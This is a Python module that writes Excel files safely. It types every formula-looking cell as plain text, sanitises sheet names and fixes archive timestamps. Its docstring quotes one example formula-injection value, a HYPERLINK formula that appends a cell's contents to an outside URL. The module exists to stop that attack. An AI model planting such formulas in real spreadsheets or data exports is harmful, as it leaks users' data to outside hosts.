"""The one Excel (.xlsx) writer: sheets whose cells are text or numbers, never formulas.

openpyxl turns any text that starts with ``=`` into a formula cell; an answer, an id or a
codebook label such as ``=HYPERLINK("http://…?x="&A1,"klik")`` would then run when the
workbook is opened. Every sheet written here goes through :func:`text_cells`, which types such
cells as the text they are, and every value through :func:`~textcode.io.cells.xlsx_cell`
(control characters a sheet cannot hold become U+FFFD and are counted, see
:mod:`textcode.io.cells`).

Workbooks are byte-identical for the same tables: openpyxl stamps the time of saving into the
properties and the archive, so both are fixed (:func:`workbook_bytes`).
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterable, Mapping, Sequence
from typing import TYPE_CHECKING, Any

import pandas as pd

from textcode.io.cells import Replacements, xlsx_cell

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

FIXED_TIME = dt.datetime(2000, 1, 1)
_ZIP_TIME = (1980, 1, 1, 0, 0, 0)
_CORE_TIME = re.compile(
    rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(</dcterms:(?:created|modified)>)"
)
_BAD_SHEET = re.compile(r"[\[\]:*?/\\\x00-\x1f]")
MAX_SHEET_NAME = 31


def sheet_names(names: Sequence[str], *, reserved: Iterable[str] = ()) -> list[str]:
    """Excel-safe, unique sheet names: no ``[]:*?/\\``, not starting or ending with ``'``, at
    most 31 characters, never one of ``reserved`` (case does not count, as in Excel); a name
    taken already gets ``~2``, ``~3``, ...; an empty one its position."""
    taken = {name.casefold() for name in reserved}
    out: list[str] = []
    for position, name in enumerate(names, start=1):
        base = _BAD_SHEET.sub("_", name).strip("'")[:MAX_SHEET_NAME] or str(position)
        candidate, k = base, 2
        while candidate.casefold() in taken:
            suffix = f"~{k}"
            candidate, k = base[: MAX_SHEET_NAME - len(suffix)] + suffix, k + 1
        taken.add(candidate.casefold())
        out.append(candidate)
    return out


def text_cells(sheet: Worksheet) -> None:
    """Type every cell openpyxl took for a formula as the text it is."""
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"


def new_workbook() -> Workbook:
    """An empty workbook (no sheets) with fixed properties."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    book.properties.creator = "textcode"
    book.properties.created = FIXED_TIME
    return book


def append_table(
    sheet: Worksheet,
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    tally: Replacements | None = None,
) -> None:
    """A plain table (bold header row, frozen below it) appended to ``sheet``."""
    from openpyxl.styles import Font

    sheet.append([xlsx_cell(name, tally) for name in header])
    for cell in sheet[sheet.max_row]:
        cell.font = Font(bold=True)
    for row in rows:
        sheet.append([xlsx_cell(value, tally) for value in row])
    sheet.freeze_panes = "A2"
    text_cells(sheet)


def frames_workbook(tables: Mapping[str, pd.DataFrame], tally: Replacements | None = None) -> bytes:
    """One sheet per table (named by :func:`sheet_names`), laid out as pandas writes it, with
    the header row frozen and columns as wide as their first 200 values (8 to 60)."""
    buffer = io.BytesIO()
    names = sheet_names(list(tables))
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame in zip(names, tables.values(), strict=True):
            _clean(frame, tally).to_excel(writer, sheet_name=name, index=False)
            sheet = writer.sheets[name]
            text_cells(sheet)
            sheet.freeze_panes = "A2"
            for column in sheet.columns:
                width = max(len(str(cell.value or "")) for cell in column[:200])
                sheet.column_dimensions[column[0].column_letter].width = min(max(width, 8), 60)
    return fixed_times(buffer.getvalue())


def _clean(frame: pd.DataFrame, tally: Replacements | None) -> pd.DataFrame:
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if values.dtype == object or isinstance(values.dtype, pd.CategoricalDtype | pd.StringDtype):
            out[column] = pd.Series(
                [xlsx_cell(v, tally) for v in values.tolist()], index=values.index, dtype=object
            )
        elif isinstance(values.dtype, pd.DatetimeTZDtype):
            out[column] = values.dt.tz_localize(None)  # a spreadsheet has no time zones
    out.columns = [str(xlsx_cell(str(c), tally)) for c in out.columns]
    return out


def workbook_bytes(book: Workbook) -> bytes:
    """The workbook as ``.xlsx`` bytes with fixed time stamps."""
    buffer = io.BytesIO()
    book.save(buffer)
    return fixed_times(buffer.getvalue())


def fixed_times(data: bytes) -> bytes:
    """An ``.xlsx`` archive rewritten with fixed times in its properties and its entries."""
    stamp = FIXED_TIME.strftime("%Y-%m-%dT%H:%M:%SZ").encode()
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = _CORE_TIME.sub(rb"\g<1>" + stamp + rb"\g<2>", content)
            entry = zipfile.ZipInfo(info.filename, date_time=_ZIP_TIME)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.create_system = 3  # Unix on every system, so the bytes never vary
            entry.external_attr = 0o644 << 16
            target.writestr(entry, content)
    return out.getvalue()
